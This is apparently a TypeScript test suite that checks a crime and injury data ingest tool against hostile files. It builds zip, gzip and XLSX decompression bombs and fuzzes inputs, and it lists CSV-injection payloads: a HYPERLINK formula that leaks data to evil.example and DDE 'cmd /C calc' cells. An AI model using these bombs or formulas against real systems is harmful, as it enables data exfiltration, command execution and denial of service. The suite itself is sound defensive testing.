/**
 * Hostile files (issue 6, "Ingest fuzzing"), on DuckDB and PostgreSQL.
 *
 * 1. Decompression and size limits (src/ingest/common/limits.ts): zip and gzip bombs, archives that lie
 *    about their sizes, nested archives, too many entries, a 200 MB line, workbooks whose sheet XML,
 *    cell count or shared strings expand enormously. Each is refused with a message naming the file and
 *    the limit, nothing is stored, and the test process's peak memory stays far below the bomb's size.
 * 2. Fuzzing (fast-check, fixed seed): valid police, police-uk, ISTV and ambulance files mutated
 *    (truncation, random bytes, invalid UTF-8, NULs, formula cells, quotes, CRLF mixes, huge fields).
 *    Every ingest commits the file whole or refuses it with an SvoError; a refused file leaves every
 *    table as it was; formula-looking values never reach a CSV output (rejects, export) unneutralised.
 * 3. Hostile request bodies to every POST route never crash the server (500 without internals at worst).
 *
 * Every big or binary input is generated into a temporary folder at run time.
 */
import { spawn } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { basename, join, resolve } from 'node:path';
import { pathToFileURL } from 'node:url';
import { crc32, deflateRawSync, gzipSync } from 'node:zlib';
import { parse } from 'csv-parse/sync';
import ExcelJS from 'exceljs';
import fc from 'fast-check';
import { strToU8, zipSync } from 'fflate';
import { afterAll, afterEach, beforeAll, describe, expect, it, vi } from 'vitest';
import { definitionDirs, readDefinitionFiles, syncDefinitions } from '../../src/classify/definitions.js';
import { SvoError } from '../../src/core/errors.js';
import { ingestAmbulance } from '../../src/ingest/ambulance/index.js';
import { ingestIstv } from '../../src/ingest/istv/index.js';
import { ingestPoliceExtract } from '../../src/ingest/police/index.js';
import { ingestPoliceUk } from '../../src/ingest/police-uk/index.js';
import { buildApp, type SvoApp } from '../../src/server/app.js';
import { openStore } from '../../src/store/open.js';
import type { Store } from '../../src/store/port.js';
import { testContext, testPseudonymiser, TEST_PSEUDONYM_KEY } from '../support/context.js';
import { signedIn, type Client } from '../support/http.js';
import { createTestStore, ENGINES, type TestStore } from '../support/stores.js';

const ROOT = resolve(import.meta.dirname, '../..');
const FIXTURES = join(ROOT, 'test/fixtures');
const GEN = mkdtempSync(join(tmpdir(), 'svo-hostile-'));
const gen = (name: string) => join(GEN, name);
afterAll(() => rmSync(GEN, { recursive: true, force: true }));

const MiB = 1024 * 1024;
const STREET_HEADER = 'Crime ID,Month,Reported by,Falls within,Longitude,Latitude,Location,LSOA code,LSOA name,Crime type,Last outcome category,Context';
const street = (id: string) => `${id},2021-03,Testshire Police,Testshire Police,-1.133,52.6365,On or near High Street,E01013678,Leicester 035A,Robbery,Under investigation,`;
const STREET_CSV = `${STREET_HEADER}\n${street('h1')}\n${street('h2')}\n`;

type Source = 'police' | 'police-uk' | 'istv' | 'ambulance';

/** Runs one ingest the way the CLI would, with the options each source needs for the fixtures. */
function ingest(store: Store, source: Source, path: string, maxRejectRate?: number) {
  const ctx = testContext(store);
  switch (source) {
    case 'police':
      return ingestPoliceExtract(ctx, [path], { pseudonymiser: testPseudonymiser(), agency: 'Hostile Force', maxRejectRate });
    case 'police-uk':
      return ingestPoliceUk(ctx, [path], { maxRejectRate });
    case 'istv':
      return ingestIstv(ctx, [path], { site: 'XED01', periodStart: '2021-07-01', periodEnd: '2021-07-31', maxRejectRate });
    case 'ambulance':
      return ingestAmbulance(ctx, [path], { agency: 'Hostile Ambulance', maxRejectRate });
  }
}

/** Row counts of every table in the store's schema: "exactly as before" is these being equal. */
async function tableCounts(store: Store): Promise<Record<string, number>> {
  const tables = await store.query<{ table_name: string }>(
    `SELECT table_name FROM information_schema.tables WHERE table_schema = current_schema() AND table_type = 'BASE TABLE' ORDER BY table_name`,
  );
  const counts: Record<string, number> = {};
  for (const { table_name: t } of tables) counts[t] = Number((await store.query<{ n: number }>(`SELECT COUNT(*) AS n FROM ${t}`))[0]!.n);
  return counts;
}

// ------------------------------------------------------------------------------------------------
// Crafted archives

/** A zip written byte by byte, so that entries can share one compressed body or lie about their size. */
function craftZip(entries: { name: string; deflated: Buffer; crc: number; declaredSize: number }[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(8, 8); // deflate
    local.writeUInt32LE(e.crc, 14);
    local.writeUInt32LE(e.deflated.length, 18);
    local.writeUInt32LE(e.declaredSize, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(8, 10);
    central.writeUInt32LE(e.crc, 16);
    central.writeUInt32LE(e.deflated.length, 20);
    central.writeUInt32LE(e.declaredSize, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, e.deflated);
    centrals.push(central, name);
    offset += 30 + name.length + e.deflated.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

/** A minimal XLSX workbook from its sheet XML rows (and shared strings), zipped with fflate. */
function craftXlsx(sheetData: string, sharedStrings?: string[]): Uint8Array {
  const files: Record<string, Uint8Array> = {
    '[Content_Types].xml': strToU8(
      '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>' +
        '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>' +
        '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>' +
        (sharedStrings ? '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>' : '') +
        '</Types>',
    ),
    '_rels/.rels': strToU8(
      '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
    ),
    'xl/workbook.xml': strToU8(
      '<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">' +
        '<sheets><sheet name="Crimes" sheetId="1" r:id="rId1"/></sheets></workbook>',
    ),
    'xl/_rels/workbook.xml.rels': strToU8(
      '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>' +
        (sharedStrings ? '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>' : '') +
        '</Relationships>',
    ),
    'xl/worksheets/sheet1.xml': strToU8(
      `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${sheetData}</sheetData></worksheet>`,
    ),
  };
  if (sharedStrings) {
    files['xl/sharedStrings.xml'] = strToU8(
      `<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="${sharedStrings.length}" uniqueCount="${sharedStrings.length}">` +
        sharedStrings.map((s) => `<si><t>${s}</t></si>`).join('') +
        '</sst>',
    );
  }
  return zipSync(files, { level: 6 });
}

const inline = (ref: string, text: string) => `<c r="${ref}" t="inlineStr"><is><t>${text}</t></is></c>`;
const HEADER_ROW = `<row r="1">${['crime_ref', 'occurred_from', 'hocr_code'].map((h, i) => inline(`${'ABC'[i]}1`, h)).join('')}</row>`;

interface LimitCase {
  name: string;
  source: Source;
  /** Writes the file; returns its path. */
  make: () => string;
  /** Limits set for this case (the rest stay at their defaults). */
  env?: Record<string, string>;
  /** What the message must say besides the file name. */
  says: RegExp[];
}

const LIMIT_CASES: LimitCase[] = [
  {
    name: 'a zip bomb: 64 entries sharing one deflated body, 2 GiB declared (default limit, refused before inflating)',
    source: 'police-uk',
    make: () => {
      const zeros = Buffer.alloc(32 * MiB, 0x41);
      const deflated = deflateRawSync(zeros, { level: 9 });
      const crc = crc32(zeros);
      const entries = Array.from({ length: 64 }, (_, i) => ({ name: `2021-03/2021-03-f${i}-street.csv`, deflated, crc, declaredSize: zeros.length }));
      const path = gen('bomb-declared.zip');
      writeFileSync(path, craftZip(entries));
      return path;
    },
    says: [/says it expands to 2 GiB, more than the limit of 1 GiB/, /SVO_MAX_EXPANDED_BYTES/],
  },
  {
    name: 'a zip bomb that lies: an entry declaring 1,000 bytes that inflates to 256 MiB (stopped at 1,001)',
    source: 'police-uk',
    make: () => {
      const big = Buffer.alloc(256 * MiB, 0x41);
      const path = gen('bomb-lying.zip');
      writeFileSync(path, craftZip([{ name: '2021-03-testshire-street.csv', deflated: deflateRawSync(big, { level: 1 }), crc: 0, declaredSize: 1000 }]));
      return path;
    },
    says: [/!2021-03-testshire-street\.csv: expands to more than the 1000 bytes the archive says \(limit 1 GiB\)/],
  },
  {
    name: 'a gzip bomb: 128 gzip members of 16 MiB each (2 GiB) against a 64 MiB limit',
    source: 'police-uk',
    env: { SVO_MAX_EXPANDED_BYTES: '64M' },
    make: () => {
      const member = gzipSync(Buffer.alloc(16 * MiB, 0x41), { level: 9 });
      const path = gen('2021-03-testshire-street.csv.gz');
      writeFileSync(path, Buffer.concat(Array.from({ length: 128 }, () => member)));
      return path;
    },
    says: [/the file decompresses to more, more than the limit of 64 MiB/, /SVO_MAX_EXPANDED_BYTES/],
  },
  {
    name: 'zip in zip in zip (five levels) with a street file at the bottom',
    source: 'police-uk',
    make: () => {
      let inner: Uint8Array = zipSync({ '2021-03-testshire-street.csv': strToU8(STREET_CSV) });
      for (let level = 4; level >= 1; level--) inner = zipSync({ [`level-${level}.zip`]: inner });
      const path = gen('nested.zip');
      writeFileSync(path, inner);
      return path;
    },
    says: [/holds another archive \(level-1\.zip\); svo opens one level of archive only/],
  },
  {
    name: 'a zip of 10,001 entries (default limit 10,000)',
    source: 'police-uk',
    make: () => {
      const files: Record<string, Uint8Array> = {};
      for (let i = 0; i < 10_001; i++) files[`2021-03-f${i}-street.csv`] = strToU8(STREET_CSV);
      const path = gen('many-entries.zip');
      writeFileSync(path, zipSync(files, { level: 0 }));
      return path;
    },
    says: [/holds 10001 entries, more than the limit of 10000/, /SVO_MAX_ARCHIVE_ENTRIES/],
  },
  {
    name: 'a 200 MB single line in a street file (default line limit 1 MiB)',
    source: 'police-uk',
    make: () => {
      const path = gen('2021-03-longline-street.csv');
      writeFileSync(path, Buffer.concat([Buffer.from(`${STREET_HEADER}\n${street('l1')}\n`), Buffer.alloc(200 * 1000 * 1000, 0x61), Buffer.from('\n')]));
      return path;
    },
    says: [/line 3 is longer than the limit of 1 MiB/, /SVO_MAX_LINE_BYTES/],
  },
  {
    name: 'a police extract whose quoted field spans lines for 2 MiB (one record past the limit)',
    source: 'police',
    make: () => {
      const path = gen('px-huge-field.csv');
      writeFileSync(path, `crime_ref,occurred_from,hocr_code,location_type\nH-1,2021-07-03T23:15,8N,"${'street\n'.repeat(300_000)}"\n`);
      return path;
    },
    says: [/a record is longer than the limit of 1 MiB/, /SVO_MAX_LINE_BYTES/],
  },
  {
    name: 'an XLSX whose sheet XML expands to 20 MiB against an 8 MiB workbook limit',
    source: 'police',
    env: { SVO_MAX_XLSX_EXPANDED_BYTES: '8M' },
    make: () => {
      const rows = Array.from({ length: 100_000 }, (_, i) => `<row r="${i + 2}">${inline(`A${i + 2}`, `X-${i}`)}<c r="B${i + 2}"><v>44380</v></c>${inline(`C${i + 2}`, '8N')}</row>`);
      const path = gen('px-big-sheet.xlsx');
      writeFileSync(path, craftXlsx(HEADER_ROW + rows.join('')));
      return path;
    },
    says: [/the archive says it expands to [\d.]+ MiB, more than the limit of 8 MiB/, /SVO_MAX_XLSX_EXPANDED_BYTES/],
  },
  {
    name: 'an XLSX of 2,000,001 cells (default cell limit 2,000,000)',
    source: 'police',
    make: () => {
      const rows: string[] = [];
      for (let r = 2; rows.length * 3 < 2_000_001; r++) rows.push(`<row r="${r}"><c r="A${r}"/><c r="B${r}"/><c r="C${r}"/></row>`);
      const path = gen('px-many-cells.xlsx');
      writeFileSync(path, craftXlsx(HEADER_ROW + rows.join('')));
      return path;
    },
    says: [/the workbook holds 200000\d cells, more than the limit of 2000000/, /SVO_MAX_XLSX_CELLS/],
  },
  {
    name: 'an XLSX shared-strings bomb: one 30,000-character string in 20,000 cells (600 M characters) against 64 MiB',
    source: 'police',
    env: { SVO_MAX_EXPANDED_BYTES: '64M' },
    make: () => {
      const rows = Array.from({ length: 20_000 }, (_, i) => `<row r="${i + 2}">${inline(`A${i + 2}`, `S-${i}`)}<c r="B${i + 2}" t="s"><v>0</v></c><c r="C${i + 2}" t="s"><v>0</v></c></row>`);
      const path = gen('px-shared-strings.xlsx');
      writeFileSync(path, craftXlsx(HEADER_ROW + rows.join(''), ['x'.repeat(30_000)]));
      return path;
    },
    says: [/the cells hold more than the limit of 64 MiB of text \(shared strings repeated\)/, /SVO_MAX_EXPANDED_BYTES/],
  },
  {
    name: 'an XLSX cell of 40,000 characters (more than Excel itself allows)',
    source: 'police',
    make: () => {
      const path = gen('px-long-cell.xlsx');
      writeFileSync(path, craftXlsx(`${HEADER_ROW}<row r="2">${inline('A2', 'L-1')}${inline('B2', '2021-07-03T23:15')}${inline('C2', 'y'.repeat(40_000))}</row>`));
      return path;
    },
    says: [/row 2, column 3: a cell holds 40000 characters, more than Excel's own limit of 32767/],
  },
  {
    name: 'a CSV header of 5,000 columns (default limit 1,000)',
    source: 'ambulance',
    make: () => {
      const path = gen('amb-wide.csv');
      writeFileSync(path, `call_ref,call_datetime,${Array.from({ length: 4998 }, (_, i) => `c${i}`).join(',')}\nA-1,2021-07-03 00:58\n`);
      return path;
    },
    says: [/the header has 5000 columns, more than the limit of 1000/, /SVO_MAX_COLUMNS/],
  },
];

describe('decompression and size limits', () => {
  beforeAll(() => {
    for (const c of LIMIT_CASES) (c as LimitCase & { path?: string }).path = c.make();
  }, 120_000);
  afterEach(() => vi.unstubAllEnvs());

  describe.each(ENGINES)('on %s', (engine) => {
    let t: TestStore;
    beforeAll(async () => {
      t = await createTestStore(engine);
      await syncDefinitions(t.store, readDefinitionFiles(definitionDirs({})));
    });
    afterAll(async () => await t.dispose());

    it.each(LIMIT_CASES)('refuses $name, naming the file and the limit, storing nothing, in bounded memory', async (c) => {
      const path = (c as LimitCase & { path: string }).path;
      for (const [k, v] of Object.entries(c.env ?? {})) vi.stubEnv(k, v);
      const before = await tableCounts(t.store);
      const rssBefore = process.resourceUsage().maxRSS * 1024;
      const started = performance.now();
      const error = await ingest(t.store, c.source, path).then(
        () => null,
        (e: unknown) => e,
      );
      const ms = performance.now() - started;
      const rssGrowth = process.resourceUsage().maxRSS * 1024 - rssBefore;
      expect(error, 'the file was accepted').toBeInstanceOf(SvoError);
      const message = (error as SvoError).message;
      expect(message).toContain(path);
      for (const pattern of c.says) expect(message).toMatch(pattern);
      expect(await tableCounts(t.store)).toEqual(before);
      // The bombs expand to 256 MiB–2 GiB; the refusal must not get anywhere near that.
      expect(rssGrowth, `peak memory grew by ${Math.round(rssGrowth / MiB)} MiB`).toBeLessThan(400 * MiB);
      expect(ms).toBeLessThan(30_000);
    });

    it('still ingests an honest zip and gzip under the same code path', async () => {
      const zip = gen(`honest-${engine}.zip`);
      writeFileSync(zip, zipSync({ '2021-03/2021-03-testshire-street.csv': strToU8(STREET_CSV) }));
      expect(await ingest(t.store, 'police-uk', zip)).toMatchObject({ files: 1, accepted: 2 });
      const gz = gen(`2021-04-${engine}-street.csv.gz`);
      writeFileSync(gz, gzipSync(STREET_CSV.replaceAll('2021-03', '2021-04')));
      expect(await ingest(t.store, 'police-uk', gz)).toMatchObject({ files: 1, accepted: 2 });
    });
  });

  it('refuses a bad limit setting with a usage error naming the variable', async () => {
    vi.stubEnv('SVO_MAX_LINE_BYTES', 'lots');
    const t = await createTestStore('duckdb');
    try {
      const error = await ingest(t.store, 'police-uk', join(FIXTURES, 'police-uk/2021-03-testshire-street.csv')).catch((e: unknown) => e);
      expect(error).toBeInstanceOf(SvoError);
      expect((error as SvoError).exitCode).toBe(2);
      expect((error as SvoError).message).toMatch(/SVO_MAX_LINE_BYTES must be a positive whole number, optionally with K, M or G \(e\.g\. 512M\), got 'lots'/);
    } finally {
      await t.dispose();
    }
  });
});

// ------------------------------------------------------------------------------------------------
// The CLI in a child process: exit code and message for a refused bomb, limits from the environment.

const TSX = pathToFileURL(join(ROOT, 'node_modules/tsx/dist/loader.mjs')).href;

function svo(args: string[], env: Record<string, string>): Promise<{ code: number | null; stdout: string; stderr: string }> {
  return new Promise((done, fail) => {
    const child = spawn(process.execPath, ['--import', TSX, join(ROOT, 'src/cli/main.ts'), ...args], {
      cwd: GEN,
      env: { ...process.env, DATABASE_URL: '', SVO_PG_SCHEMA: '', SVO_PSEUDONYM_KEY: TEST_PSEUDONYM_KEY, SVO_PSEUDONYM_KEY_FILE: gen('pseudonym.key'), ...env },
      stdio: ['ignore', 'pipe', 'pipe'],
    });
    let stdout = '';
    let stderr = '';
    child.stdout.on('data', (d: Buffer) => (stdout += d.toString()));
    child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
    child.on('error', fail);
    child.on('close', (code) => done({ code, stdout, stderr }));
  });
}

describe('svo ingest on hostile files (CLI, DuckDB)', () => {
  it('exits 3 naming the file and the limit, with SVO_MAX_* read from the environment, and stores nothing', async () => {
    const db = gen('cli.duckdb');
    const gz = gen('2021-05-cli-street.csv.gz');
    const member = gzipSync(Buffer.alloc(8 * MiB, 0x41));
    writeFileSync(gz, Buffer.concat(Array.from({ length: 16 }, () => member)));
    const run = await svo(['ingest', 'police-uk', gz, '--json'], { SVO_DB: db, SVO_MAX_EXPANDED_BYTES: '32M' });
    expect(run.code, run.stderr).toBe(3);
    expect(run.stderr).toContain(gz);
    expect(run.stderr).toMatch(/decompresses to more, more than the limit of 32 MiB; nothing was read \(if the file is genuine, raise the limit with SVO_MAX_EXPANDED_BYTES\)/);
    expect(run.stderr).not.toMatch(/unexpected error|\n\s+at /);
    const t = await openStore({ dbPath: db });
    try {
      expect(await t.query(`SELECT COUNT(*) AS n FROM ingest_batches`)).toEqual([{ n: 0 }]);
      expect(await t.query(`SELECT COUNT(*) AS n FROM police_uk_crimes`)).toEqual([{ n: 0 }]);
    } finally {
      await t.close();
    }
  });
});

// ------------------------------------------------------------------------------------------------
// Fuzzing

/** Cells a spreadsheet would run as formulas (OWASP CSV injection). */
const FORMULAS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '=1+1',
  '\t=1+1',
];
const TRIGGER = /^[=+\-@\t\r]/;
const NUMBER = /^[-+]?\d+(\.\d+)?$/;

interface Base {
  source: Source;
  name: string;
  bytes: Buffer;
}

type Mutation =
  | { kind: 'truncate'; at: number }
  | { kind: 'insert'; at: number; bytes: Uint8Array }
  | { kind: 'overwrite'; at: number; value: number }
  | { kind: 'invalidUtf8'; at: number; which: number }
  | { kind: 'nul'; at: number }
  | { kind: 'formula'; line: number; field: number; which: number }
  | { kind: 'quote'; at: number }
  | { kind: 'lineEnd'; nth: number; ending: '\r\n' | '\r' }
  | { kind: 'hugeField'; line: number; field: number; size: number }
  | { kind: 'duplicateLine'; line: number }
  | { kind: 'deleteLine'; line: number };

const position = fc.double({ min: 0, max: 1, noNaN: true, maxExcluded: true });
const mutationArb: fc.Arbitrary<Mutation> = fc.oneof(
  fc.record({ kind: fc.constant('truncate' as const), at: position }),
  fc.record({ kind: fc.constant('insert' as const), at: position, bytes: fc.uint8Array({ minLength: 1, maxLength: 12 }) }),
  fc.record({ kind: fc.constant('overwrite' as const), at: position, value: fc.integer({ min: 0, max: 255 }) }),
  fc.record({ kind: fc.constant('invalidUtf8' as const), at: position, which: fc.nat(3) }),
  fc.record({ kind: fc.constant('nul' as const), at: position }),
  fc.record({ kind: fc.constant('formula' as const), line: position, field: fc.nat(20), which: fc.nat(FORMULAS.length - 1) }),
  fc.record({ kind: fc.constant('formula' as const), line: position, field: fc.nat(20), which: fc.nat(FORMULAS.length - 1) }),
  fc.record({ kind: fc.constant('quote' as const), at: position }),
  fc.record({ kind: fc.constant('lineEnd' as const), nth: fc.nat(30), ending: fc.constantFrom('\r\n' as const, '\r' as const) }),
  fc.record({ kind: fc.constant('hugeField' as const), line: position, field: fc.nat(20), size: fc.integer({ min: 1_000, max: 300_000 }) }),
  fc.record({ kind: fc.constant('duplicateLine' as const), line: position }),
  fc.record({ kind: fc.constant('deleteLine' as const), line: position }),
);

const INVALID_UTF8 = [[0xc3, 0x28], [0xff], [0xed, 0xa0, 0x80], [0xe2, 0x82]];

function csvQuote(value: string): string {
  return /[",\r\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value;
}

/** Replaces one field of one data line (naively split on commas: good enough to place hostile values). */
function replaceField(text: string, line: number, field: number, value: string): string {
  const lines = text.split('\n');
  if (lines.length < 2) return text;
  const i = 1 + Math.floor(line * (lines.length - 1));
  const fields = lines[i]!.split(',');
  fields[field % fields.length] = csvQuote(value);
  lines[i] = fields.join(',');
  return lines.join('\n');
}

function mutate(bytes: Buffer, m: Mutation): Buffer {
  const at = (f: number) => Math.floor(f * bytes.length);
  const text = () => bytes.toString('latin1');
  const fromText = (s: string) => Buffer.from(s, 'latin1');
  const withLines = (f: (lines: string[], i: number) => void, line: number) => {
    const lines = text().split('\n');
    f(lines, 1 + Math.floor(line * Math.max(1, lines.length - 1)));
    return fromText(lines.join('\n'));
  };
  switch (m.kind) {
    case 'truncate':
      return bytes.subarray(0, at(m.at));
    case 'insert':
      return Buffer.concat([bytes.subarray(0, at(m.at)), m.bytes, bytes.subarray(at(m.at))]);
    case 'overwrite': {
      const copy = Buffer.from(bytes);
      if (copy.length > 0) copy[Math.min(copy.length - 1, at(m.at))] = m.value;
      return copy;
    }
    case 'invalidUtf8':
      return Buffer.concat([bytes.subarray(0, at(m.at)), Buffer.from(INVALID_UTF8[m.which]!), bytes.subarray(at(m.at))]);
    case 'nul':
      return Buffer.concat([bytes.subarray(0, at(m.at)), Buffer.from([0]), bytes.subarray(at(m.at))]);
    case 'formula':
      // Through UTF-8, not latin1: the payloads are ASCII and the rest of the file must stay as it was.
      return Buffer.from(replaceField(bytes.toString('utf8'), m.line, m.field, FORMULAS[m.which]!));
    case 'quote':
      return Buffer.concat([bytes.subarray(0, at(m.at)), Buffer.from('"'), bytes.subarray(at(m.at))]);
    case 'lineEnd': {
      let n = 0;
      return fromText(text().replace(/\n/g, (nl) => (n++ === m.nth ? m.ending : nl)));
    }
    case 'hugeField':
      return Buffer.from(replaceField(bytes.toString('utf8'), m.line, m.field, 'w'.repeat(m.size)));
    case 'duplicateLine':
      return withLines((lines, i) => lines.splice(i, 0, lines[i] ?? ''), m.line);
    case 'deleteLine':
      return withLines((lines, i) => lines.splice(i, 1), m.line);
  }
}

const SOURCE_TABLE: Record<Source, string> = { police: 'incidents', 'police-uk': 'police_uk_crimes', istv: 'injury_attendances', ambulance: 'ambulance_calls' };

/** Every text cell of a CSV output that a spreadsheet would run as a formula. */
function unneutralised(csv: string): string[] {
  const rows = parse(csv, { relax_column_count: true, bom: true }) as string[][];
  return rows.flat().filter((cell) => TRIGGER.test(cell) && !NUMBER.test(cell));
}

async function policeXlsx(): Promise<Buffer> {
  const book = new ExcelJS.Workbook();
  const sheet = book.addWorksheet('Crimes');
  sheet.addRow(['crime_ref', 'occurred_from', 'hocr_code', 'location_type', 'victim_id', 'victim_age']);
  for (let i = 1; i <= 6; i++) sheet.addRow([`XF-${i}`, `2021-07-0${i}T21:00`, i % 2 ? '8N' : '105A', 'Street', `V-${i}`, 20 + i]);
  return Buffer.from(await book.xlsx.writeBuffer());
}

describe.each(ENGINES)('hostile-file fuzzing on %s', (engine) => {
  let t: TestStore;
  let bases: Base[];
  const dir = gen(`fuzz-${engine}`);
  beforeAll(async () => {
    t = await createTestStore(engine);
    await syncDefinitions(t.store, readDefinitionFiles(definitionDirs({})));
    rmSync(dir, { recursive: true, force: true });
    mkdirSync(dir, { recursive: true });
    const fixture = (p: string) => readFileSync(join(FIXTURES, p));
    bases = [
      { source: 'police', name: 'canonical.csv', bytes: fixture('police/canonical.csv') },
      { source: 'police', name: 'extract.xlsx', bytes: await policeXlsx() },
      { source: 'police-uk', name: '2021-03-testshire-street.csv', bytes: fixture('police-uk/2021-03-testshire-street.csv') },
      { source: 'istv', name: 'istv-2021-07.csv', bytes: fixture('istv/istv-2021-07.csv') },
      { source: 'istv', name: 'istv-2021-08.xml', bytes: fixture('istv/istv-2021-08.xml') },
      { source: 'ambulance', name: 'ambulance.csv', bytes: fixture('istv/ambulance.csv') },
    ];
  });
  afterAll(async () => await t.dispose());
  afterEach(() => vi.unstubAllEnvs());

  it('commits each mutated file whole or refuses it with an SvoError, leaving every table as it was', async () => {
    // A lower line limit so that some huge fields cross it; everything else at the defaults.
    vi.stubEnv('SVO_MAX_LINE_BYTES', '128K');
    let run = 0;
    const outcomes = { committed: 0, skipped: 0, refused: 0 };
    const started = performance.now();
    await fc.assert(
      fc.asyncProperty(fc.nat(bases.length - 1), fc.array(mutationArb, { minLength: 1, maxLength: 3 }), async (which, mutations) => {
        const base = bases[which]!;
        const bytes = mutations.reduce(mutate, base.bytes);
        const path = join(dir, `${++run}-${base.name}`);
        writeFileSync(path, bytes);
        const before = await tableCounts(t.store);
        let summary;
        try {
          summary = await ingest(t.store, base.source, path, 0.3);
        } catch (error) {
          // Refused: an SvoError (a message for a person, an exit code), never anything else.
          if (!(error instanceof SvoError)) throw new Error(`${base.name} + ${JSON.stringify(mutations).slice(0, 300)}: ${(error as Error).stack}`, { cause: error });
          expect(await tableCounts(t.store), `a refused ${base.name} changed the database`).toEqual(before);
          outcomes.refused++;
          return;
        }
        const after = await tableCounts(t.store);
        const newBatches = after.ingest_batches! - before.ingest_batches!;
        if (summary.skippedFiles === 1) {
          expect(after).toEqual(before);
          outcomes.skipped++;
        } else {
          // Committed: exactly one batch, and the rows stored under it are the ones it claims: its new and
          // updated rows, plus (ISTV: a resubmitted return replaces the stored one whole) its duplicates.
          expect(newBatches).toBe(1);
          const [batch] = await t.store.query<{ id: number; rows_accepted: number; updated: number; duplicates: number }>(
            `SELECT id, rows_accepted, updated, duplicates FROM ingest_batches WHERE file_name = $1`,
            [basename(path)],
          );
          const [stored] = await t.store.query<{ n: number }>(`SELECT COUNT(*) AS n FROM ${SOURCE_TABLE[base.source]} WHERE batch_id = $1`, [batch!.id]);
          const claimed = Number(batch!.rows_accepted) + Number(batch!.updated);
          expect(Number(stored!.n)).toBeGreaterThanOrEqual(claimed);
          expect(Number(stored!.n)).toBeLessThanOrEqual(claimed + Number(batch!.duplicates));
          outcomes.committed++;
        }
        const rejects = `${path}.rejects.csv`;
        if (existsSync(rejects)) expect(unneutralised(readFileSync(rejects, 'utf8'))).toEqual([]);
      }),
      { seed: 20_260_115, numRuns: 90, endOnFailure: true },
    );
    // No orphans anywhere after all of it.
    const orphans = await t.store.query<{ n: number }>(
      `SELECT (SELECT COUNT(*) FROM incident_people p WHERE NOT EXISTS (SELECT 1 FROM incidents i WHERE i.id = p.incident_id))
            + (SELECT COUNT(*) FROM incident_classifications c WHERE NOT EXISTS (SELECT 1 FROM incidents i WHERE i.id = c.incident_id))
            + (SELECT COUNT(*) FROM incidents i WHERE NOT EXISTS (SELECT 1 FROM ingest_batches b WHERE b.id = i.batch_id)) AS n`,
    );
    expect(Number(orphans[0]!.n)).toBe(0);
    process.stderr.write(`[hostile fuzz ${engine}] ${JSON.stringify(outcomes)} in ${Math.round(performance.now() - started)} ms\n`);
    // The property must have exercised both outcomes, or it proves little.
    expect(outcomes.committed).toBeGreaterThan(5);
    expect(outcomes.refused).toBeGreaterThan(5);
  }, 120_000);

  it('writes formula cells neutralised in the rejects CSV and in `svo export incidents --format csv`', async () => {
    const path = join(dir, 'formulas.csv');
    const lines = ['crime_ref,occurred_from,hocr_code,location_type,weapon'];
    FORMULAS.forEach((f, i) => lines.push([`${f}-${i}`, `2021-07-0${i + 1}T21:00`, '8N', f, f].map(csvQuote).join(',')));
    lines.push(['F-bad', FORMULAS[0]!, '8N', 'Street', ''].map(csvQuote).join(','));
    writeFileSync(path, lines.join('\n') + '\n');
    expect(await ingest(t.store, 'police', path, 0.5)).toMatchObject({ accepted: FORMULAS.length, rejected: 1 });
    const rejects = readFileSync(`${path}.rejects.csv`, 'utf8');
    expect(unneutralised(rejects)).toEqual([]);
    expect(rejects).toContain(`'=HYPERLINK`);

    // The export runs in the CLI; DuckDB allows one process at a time, so the test lets go of it first
    // (this is the last test on this store).
    if (engine === 'duckdb') await t.store.close();
    const exported = await svo(['export', 'incidents', '--format', 'csv'], t.env);
    expect(exported.code, exported.stderr).toBe(0);
    expect(unneutralised(exported.stdout)).toEqual([]);
